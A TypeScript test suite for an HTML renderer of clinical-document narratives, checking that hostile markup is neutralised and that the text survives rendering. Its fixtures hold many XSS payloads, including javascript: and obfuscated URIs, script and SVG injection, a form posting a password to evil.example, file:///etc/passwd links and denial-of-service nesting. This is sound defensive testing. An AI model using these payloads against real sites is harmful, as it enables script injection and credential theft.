import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readDocument } from '../document/readDocument.ts';
import { type DocumentTree, type NarrativeNode, narrativeTags } from '../tree.ts';
import { renderDocument, renderNodes } from './render.ts';
import { singleFile } from './singleFile.ts';
import { type Element, attribute, documentOf, elementsOf, wordsOfHtml, wordsOfXml } from './testing.ts';

const structure = 'html head body main header footer nav details summary section dl dt dd h1';
const allowed = new Set(
  `${structure} h2 h3 h4 h5 h6 p br div span bdi sub sup ul ol li table caption colgroup col thead tbody tfoot tr th td a ins del img pre`.split(
    ' ',
  ),
);
const attributes = new Set(
  'id class lang dir open role tabindex aria-label aria-labelledby data-code data-label href target rel title src alt type colspan rowspan span scope headers abbr'.split(
    ' ',
  ),
);
const isSafeAddress = (name: string, value: string): boolean =>
  name === 'src'
    ? /^data:image\/(?:png|jpeg|gif);base64,[A-Za-z0-9+/]+=*$/.test(value)
    : /^(?:https?:\/\/|#(?:d-|s-\d|fnr?-))/.test(value);

/** What there is in HTML that could run, load or pass for something of ours. */
function dangersOf(html: string): string[] {
  const all = elementsOf(html);
  const ids = all.flatMap((one) => attribute(one, 'id') ?? []);
  const dangers = all.flatMap((one: Element) => [
    ...(allowed.has(one.tagName) && one.namespaceURI === 'http://www.w3.org/1999/xhtml' ? [] : [`<${one.tagName}>`]),
    ...one.attrs.flatMap(({ name, value }) => {
      if (!attributes.has(name)) return [`${one.tagName} ${name}`];
      if (name === 'src' || name === 'href') return isSafeAddress(name, value) ? [] : [`${name}=${value}`];
      if (name === 'target') return attribute(one, 'rel') === 'noreferrer noopener' ? [] : ['an opener'];
      if (name === 'id') return /^(?:d-|s-\d|fnr?-|contents$)/.test(value) ? [] : [`id ${value}`];
      return [];
    }),
  ]);
  return [...dangers, ...(new Set(ids).size === ids.length ? [] : ['an id twice'])];
}
/** What stands in the body of a file; its head is ours alone. */
const bodyOf = (file: string): string => file.slice(file.indexOf('<body>'));

const link = (href: string) => `<linkHtml href="${href}">words</linkHtml>`;
const media = (type: string, base64: string) =>
  `<entry><observationMedia ID="m"><value mediaType="${type}" representation="B64">${base64}</value></observationMedia></entry>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const nested = (depth: number) => '<table><tr><td>'.repeat(depth) + 'deep' + '</td></tr></table>'.repeat(depth);

const narratives: readonly (readonly [name: string, text: string, entries?: string])[] = [
  [
    'an event in a table',
    '<table onmouseover="alert(1)"><tr onclick="a()"><td onload="b()" style="x:y">x</td></tr></table>',
  ],
  ['a remote picture', '<img src="http://evil.example/x.png" onerror="alert(1)"/>words'],
  ['a style sheet', '<link rel="stylesheet" href="http://evil.example/x.css"/>words'],
  ['styles', '<style>@import url(http://evil.example/); p { x: expression(alert(1)) }</style>words'],
  ['a script', '<script>alert(1)</script><script src="http://evil.example/x.js"/>words'],
  ['a script of HTML', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>words'],
  [
    'a drawing',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><a href="javascript:alert(1)">x</a></svg>',
  ],
  [
    'mathematics',
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table><mglyph><style/></mglyph></table></mtext></math>words',
  ],
  ['a frame', '<iframe src="http://evil.example/" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">words</iframe>'],
  ['a base', '<base href="http://evil.example/"/>words'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example/"/>words'],
  [
    'a form',
    '<form action="http://evil.example/"><input name="password"/><button>Send</button><textarea>x</textarea></form>',
  ],
  ['an object', '<object data="http://evil.example/x.swf"><embed src="x"/><param name="a"/>words</object>'],
  [
    'media',
    '<video src="http://evil.example/x"/><audio src="x"/><picture><source srcset="http://evil.example/x"/></picture>words',
  ],
  [
    'a template',
    '<template><script>alert(1)</script></template><noscript>x</noscript><plaintext>words</plaintext><xmp>y</xmp>',
  ],
  ['a link of XLink', '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">words</a>'],
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java&#9;script:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript&#58;alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;',
    'file:///etc/passwd',
    'blob:https://evil.example/1',
    '//evil.example/',
    '/api/patients/1',
    '?token=1',
    'https:evil.example',
    'http://[broken',
    '#&quot; onclick=&quot;alert(1)',
    'https://evil.example/&quot; onclick=&quot;alert(1)',
  ].map((href) => [`a link to ${href}`, link(href)] as const),
  [
    'styles as code',
    '<paragraph styleCode="x;background:url(http://evil.example/) Bold&quot; onclick=&quot;a()">words</paragraph>',
  ],
  [
    'attributes that end',
    '<td ID="a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" abbr="&quot; onfocus=&quot;a()">words</td>',
  ],
  [
    'markup as words',
    '&lt;script&gt;alert(1)&lt;/script&gt; &lt;/div&gt;&lt;/details&gt;<![CDATA[<img src=x onerror=alert(1)>]]> &amp;lt;b&amp;gt;',
  ],
  [
    'ids of ours',
    '<paragraph ID="body">a</paragraph><paragraph ID="s-0">b</paragraph><paragraph ID="fn-0-1">c</paragraph><paragraph ID="__proto__">d</paragraph>',
  ],
  [
    'ids twice',
    '<paragraph ID="x">a</paragraph><paragraph ID="x">b</paragraph><footnote ID="x">c</footnote><footnote ID="x">d</footnote>',
  ],
  [
    'a drawing that says it is a picture',
    '<renderMultiMedia referencedObject="m"/>',
    media('image/png', base64('<svg onload="alert(1)"/>')),
  ],
  [
    'HTML that says it is a picture',
    '<renderMultiMedia referencedObject="m"/>',
    media('image/png', base64('<script>alert(1)</script>')),
  ],
  [
    'a picture that ends its attribute',
    '<renderMultiMedia referencedObject="m"/>',
    media('image/png', 'iVBORw0KGgo=&quot; onerror=&quot;alert(1)'),
  ],
  [
    'a picture far away',
    '<renderMultiMedia referencedObject="m"/>',
    '<entry><observationMedia ID="m"><value mediaType="image/png"><reference value="http://evil.example/x.png"/></value></observationMedia></entry>',
  ],
  [
    'a picture that is named a thousand times',
    '<renderMultiMedia referencedObject="m"/>'.repeat(1000),
    media('image/png', `iVBORw0KGgo${'A'.repeat(4001)}`),
  ],
  ['spans without end', '<table><tr><td colspan="1000000" rowspan="1000000">x</td></tr></table>'],
  ['tables in tables', nested(50)],
  ['footnotes in footnotes', `${'<footnote><paragraph>'.repeat(60)}x${'</paragraph></footnote>'.repeat(60)}`],
  ['a footnote that refers to itself', '<footnote ID="f">x<footnoteRef IDREF="f"/></footnote>'],
  [
    'links in links',
    `${'<linkHtml href="https://a.example/"><list><item>'.repeat(20)}x${'</item></list></linkHtml>'.repeat(20)}`,
  ],
  [
    'turned words',
    '<paragraph>&#x202E;&#x2066;&#x202B;evil.example</paragraph><table><tr><td>&#x202E;12</td><td>34</td></tr></table>',
  ],
  [
    'names of objects',
    '<constructor><__proto__>words</__proto__></constructor><toString hasOwnProperty="1">x</toString>',
  ],
];

const hostile = narratives.map(([name, text, entries = '']) => ({ name, text, entries }));

describe('a narrative that would do harm', () => {
  test.each(hostile)('runs and loads nothing, and keeps its words: $name', ({ text, entries }) => {
    const bytes = documentOf(text, entries);
    const { tree } = readDocument(bytes);
    for (const html of [renderDocument(tree, 'fr').html ?? '', bodyOf(singleFile(tree, 'fr'))]) {
      expect(dangersOf(html)).toEqual([]);
      expect(html.length).toBeLessThan(300_000);
    }
    if (!text.includes('footnote'))
      expect(wordsOfHtml(renderDocument(tree, 'fr').html ?? '')).toEqual(wordsOfXml(bytes.toString()));
  });

  test('is found by this test where it gets through', () => {
    for (const html of [
      '<p onclick="a()">',
      '<script>',
      '<svg><p>',
      '<a href="javascript:a()">',
      '<img src="http://x/">',
      '<p style="x">',
      '<p id="body">',
      '<a target="_blank">',
      '<p id="d-a"><p id="d-a">',
    ])
      expect(dangersOf(html), html).not.toEqual([]);
  });

  test('with very many rows is read and written whole', () => {
    const { tree } = readDocument(documentOf(`<table>${'<tr><td>1</td><td>2</td></tr>'.repeat(30_000)}</table>`));
    expect(renderDocument(tree, 'en').html?.match(/<tr>/g)).toHaveLength(30_000);
  });
});

/** Words with everything in them that means something to a reader of markup. */
const words = fc.oneof(
  fc.string({
    unit: fc.constantFrom(...'< > & " \' ` = / ! - ; : # % { } a b c \u00A0 \u2028 \u202E 健'.split(' '), ' '),
    maxLength: 20,
  }),
  fc.constantFrom(
    '</td>',
    '<script>',
    '-->',
    '<!--',
    ']]>',
    '&lt;',
    '&#60;',
    '"><img src=x onerror=a()>',
    'javascript:a()',
    '</details></main>',
    '<![CDATA[',
  ),
);
const inXml = (text: string): string => text.replace(/[<>&"']/g, (sign) => `&#${sign.charCodeAt(0)};`);

describe('any words', () => {
  test('stay words, wherever they stand in a document', () => {
    const names =
      'content paragraph list item table tr td th thead caption sub sup footnote linkHtml renderMultiMedia b div script style svg title textarea'.split(
        ' ',
      );
    const { element } = fc.letrec<{ element: string }>((tie) => ({
      element: fc
        .tuple(
          fc.constantFrom(...names),
          fc.dictionary(
            fc.constantFrom(
              'ID',
              'href',
              'styleCode',
              'title',
              'abbr',
              'headers',
              'colspan',
              'IDREF',
              'align',
              'onclick',
              'src',
            ),
            words,
            { maxKeys: 3 },
          ),
          fc.array(fc.oneof({ depthSize: 'small' }, words.map(inXml), tie('element')), { maxLength: 4 }),
        )
        .map(
          ([name, values, children]) =>
            `<${name}${Object.entries(values)
              .map(([key, value]) => ` ${key}="${inXml(value)}"`)
              .join('')}>${children.join('')}</${name}>`,
        ),
    }));
    fc.assert(
      fc.property(fc.array(element, { maxLength: 4 }), words, (elements, title) => {
        const bytes = documentOf(elements.join(''));
        const { tree } = readDocument(bytes);
        const named: DocumentTree = {
          header: {
            ...tree.header,
            title,
            custodian: { name: title, organization: null, role: title, address: null, telecoms: [title] },
          },
          body: tree.body,
        };
        const html = renderDocument(named, 'en').html ?? '';
        expect(dangersOf(html)).toEqual([]);
        expect(dangersOf(bodyOf(singleFile(named, 'en')))).toEqual([]);
        const sorted = (all: readonly string[]) => all.map((one) => one.replace(/\s+/g, '').split('').sort().join(''));
        expect(sorted(wordsOfHtml(html))).toEqual(sorted(wordsOfXml(bytes.toString())));
      }),
      { numRuns: 300 },
    );
  });

  test('stay words also in a tree that no reader of ours has made', () => {
    const { node } = fc.letrec<{ node: NarrativeNode }>((tie) => ({
      node: fc.oneof(
        { depthSize: 'small' },
        words,
        fc.record({
          t: fc.constantFrom(...narrativeTags),
          a: fc.dictionary(
            fc.constantFrom(
              'id',
              'class',
              'href',
              'title',
              'type',
              'data',
              'missing',
              'region',
              'colspan',
              'span',
              'scope',
              'ref',
              'shows',
              'onclick',
            ),
            words,
            { maxKeys: 4 },
          ),
          c: fc.array(tie('node'), { maxLength: 3 }),
        }),
      ),
    }));
    fc.assert(
      fc.property(fc.array(node, { maxLength: 4 }), (nodes) => {
        expect(dangersOf(renderNodes(nodes, 'en'))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });
});
